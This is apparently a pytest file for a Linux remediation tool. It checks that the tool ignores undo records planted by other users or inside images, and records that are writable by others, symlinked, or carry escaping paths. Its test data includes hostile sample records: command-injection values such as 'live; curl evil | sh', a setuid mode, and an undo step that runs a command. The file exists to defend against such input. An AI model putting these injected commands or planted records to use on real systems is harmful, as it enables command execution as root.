# SPDX-License-Identifier: GPL-2.0-or-later
"""What others may write is never obeyed: records in an image, in somebody else's folder, of an unknown kind."""

import json
import os
from pathlib import Path

import pytest

from ejectable import host
from ejectable.advisories import registry
from ejectable.errors import DamagedInput, EjectableError, Missing, WrongUsage
from ejectable.remedies import Request, Situation, carry_out
from ejectable.remedies.changes import interrupted
from ejectable.remedies.records import Records
from ejectable.remedies.state import folder_of
from tests.host.trees import Machine, affected_module

pytestmark = [
    pytest.mark.kernels,
    pytest.mark.skipif(os.geteuid() != 0, reason="what others could make root do is shown as root"),
]
STATES = ("open", "done")


@pytest.fixture
def image(tmp_path: Path) -> Path:
    return Machine(module=affected_module(), panic_on_oops=0).build(tmp_path / "image")


def situation(tree: Path) -> Situation:
    return Situation(host.Root(tree), registry(), cache=False, offline=True)


def hostile(flag: Path, state: str) -> dict[str, object]:
    """The record of the audit: what it would undo is a command, and a file outside of its tree."""
    steps = [
        {"type": "command", "argv": ["true"], "undo": ["touch", str(flag)], "what": "nothing"},
        {"type": "file", "path": "/etc/hostname", "before": "b3duZWQK", "after": None, "mode_before": 0o4755},
    ]
    return {"number": 1, "remedy": "panic-policy", "started": "2026-01-01T00:00:00Z", "state": state, "steps": steps}


def keep(folder: Path, record: dict[str, object]) -> None:
    (folder / "changes").mkdir(parents=True)
    (folder / "changes/000001.json").write_text(json.dumps(record))


@pytest.mark.parametrize("state", STATES)
def test_records_that_an_image_brings_along_are_not_ours(image: Path, tmp_path: Path, state: str) -> None:
    flag = tmp_path / "flag"
    keep(image / "var/lib/ejectable", hostile(flag, state))
    assert carry_out.left_open(situation(image)) == ()
    with pytest.raises(WrongUsage, match="nothing to undo"):
        carry_out.undo(situation(image), "panic-policy", Request())
    carry_out.apply(situation(image), "panic-policy", Request())
    carry_out.undo(situation(image), "panic-policy", Request())
    assert not flag.exists()
    assert (image / "etc/hostname").read_text() == "web-1\n"
    assert len(list((image / "var/lib/ejectable").rglob("*"))) == 2, "and nothing of ours is written there"


def test_each_tree_has_its_own_records_on_this_machine(tmp_path: Path) -> None:
    one, other = (Machine(module=affected_module(), panic_on_oops=0).build(tmp_path / name) for name in ("a", "b"))
    carry_out.apply(situation(one), "panic-policy", Request())
    with pytest.raises(WrongUsage, match="nothing to undo"):
        carry_out.undo(situation(other), "panic-policy", Request())
    (tmp_path / "link").symlink_to(one)
    assert carry_out.undo(situation(tmp_path / "link"), "panic-policy", Request()).verified, "however it is spelt"


@pytest.mark.parametrize("state", STATES)
def test_a_kept_home_of_another_user_decides_nothing_for_root(
    image: Path, tmp_path: Path, state: str, monkeypatch: pytest.MonkeyPatch, own_state: Path
) -> None:
    """As `sudo -E` keeps HOME and XDG_STATE_HOME."""
    home, flag = tmp_path / "home", tmp_path / "flag"
    keep(home / ".local/state/ejectable", hostile(flag, state) | {"remedy": "source-patch"})
    for path in (home, *home.rglob("*")):
        os.chown(path, 65534, 65534)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_STATE_HOME", str(home / ".local/state"))
    with pytest.raises(WrongUsage, match="nothing to undo"):
        carry_out.undo(situation(image), "source-patch", Request())
    assert not flag.exists()
    assert own_state.is_dir()


@pytest.mark.parametrize("what", ["owner", "group", "others", "above", "link", "file"])
def test_a_folder_that_others_may_write_is_refused_and_said(
    image: Path, tmp_path: Path, what: str, own_state: Path
) -> None:
    flag = tmp_path / "flag"
    folder = folder_of(host.Root(image))
    keep(folder, hostile(flag, "open"))
    match what:
        case "owner":
            os.chown(folder / "changes", 65534, 65534)
        case "group":
            folder.chmod(0o775)
        case "others":
            (folder / "changes").chmod(0o777)
        case "above":
            own_state.chmod(0o777)
        case "link":
            (folder / "changes").rename(tmp_path / "elsewhere")
            (folder / "changes").symlink_to(tmp_path / "elsewhere")
        case _:
            (folder / "changes").rename(tmp_path / "elsewhere")
            (folder / "changes").write_text("")
    for do in (carry_out.apply, carry_out.undo):
        with pytest.raises((Missing, DamagedInput), match=r"nothing in it is obeyed|found a link or a file"):
            do(situation(image), "panic-policy", Request())
    assert not flag.exists()
    (note,) = carry_out.left_open(situation(image))
    assert str(own_state) in note


@pytest.mark.parametrize("what", ["owner", "mode", "second name", "link", "fifo"])
def test_a_record_that_others_may_write_is_left_out(image: Path, tmp_path: Path, what: str) -> None:
    folder = folder_of(host.Root(image))
    keep(folder, hostile(tmp_path / "flag", "open"))
    record = folder / "changes/000001.json"
    match what:
        case "owner":
            os.chown(record, 65534, 65534)
        case "mode":
            record.chmod(0o666)
        case "second name":
            (tmp_path / "second").hardlink_to(record)
        case "link":
            record.rename(tmp_path / "elsewhere")
            record.symlink_to(tmp_path / "elsewhere")
        case _:
            record.unlink()
            os.mkfifo(record)
    assert interrupted(host.Root(image)) == ()
    with pytest.raises(EjectableError):
        carry_out.undo(situation(image), "panic-policy", Request())
    assert not (tmp_path / "flag").exists()


def test_what_killed_writes_left_beside_the_records_is_swept(image: Path) -> None:
    carry_out.apply(situation(image), "panic-policy", Request())
    folder = folder_of(host.Root(image)) / "changes"
    for name in (".000001.json.ab_cd123", ".000002.json.12345678"):
        (folder / name).write_text("{")
    (folder / "theirs").write_text("not ours")
    carry_out.undo(situation(image), "panic-policy", Request())
    assert sorted(path.name for path in folder.iterdir()) == ["000001.json", "theirs"]
    assert len(Records(host.Root(image)).all()) == 1


@pytest.mark.parametrize(
    "path", ["/../x", "/etc/../../x", "etc/hostname", "//etc/hostname", "/etc/./hostname", "/", "x\0"]
)
def test_a_record_with_a_path_that_leads_out_of_the_tree_is_no_record(image: Path, path: str) -> None:
    step = {"type": "file", "path": path, "before": "b3duZWQK", "after": None}
    folder = folder_of(host.Root(image))
    keep(folder, hostile(image, "open") | {"steps": [step]})
    (image / "x").write_text("theirs\n")
    carry_out.apply(situation(image), "panic-policy", Request())
    assert not (image.parent / "x").exists()
    assert (image / "etc/hostname").read_text() == "web-1\n"
    assert interrupted(host.Root(image)) == ()


def test_a_record_with_a_mode_beyond_0777_is_no_record(image: Path) -> None:
    step = {"type": "file", "path": "/etc/suid", "before": "b3duZWQK", "after": None, "mode_before": 0o4755}
    keep(folder_of(host.Root(image)), hostile(image, "open") | {"steps": [step]})
    carry_out.apply(situation(image), "panic-policy", Request())
    assert not (image / "etc/suid").exists()


def test_a_link_that_came_since_leads_no_undoing_out_of_its_place(image: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    carry_out.apply(situation(image), "panic-policy", Request())
    (image / "etc/sysctl.d").rename(outside)
    (image / "etc/sysctl.d").symlink_to(outside)
    (image / "etc/elsewhere").mkdir()
    done = carry_out.undo(situation(image), "panic-policy", Request())
    assert not done.verified
    assert "link to nothing" in done.why
    assert len(list(outside.iterdir())) == 1


@pytest.mark.parametrize(
    "field", [{"remedy": "live; curl evil | sh"}, {"remedy": "a\x1b[31m"}, {"started": "now; curl evil | sh"}]
)
def test_nothing_of_a_record_becomes_a_command_to_paste_but_the_name_of_a_remedy(
    image: Path, field: dict[str, str]
) -> None:
    keep(folder_of(host.Root(image)), hostile(image, "open") | field)
    assert carry_out.left_open(situation(image)) == ()


def test_a_remedy_that_is_not_known_is_not_offered_for_undoing(image: Path) -> None:
    keep(folder_of(host.Root(image)), hostile(image, "open") | {"remedy": "prayer", "steps": []})
    assert carry_out.left_open(situation(image)) == ()
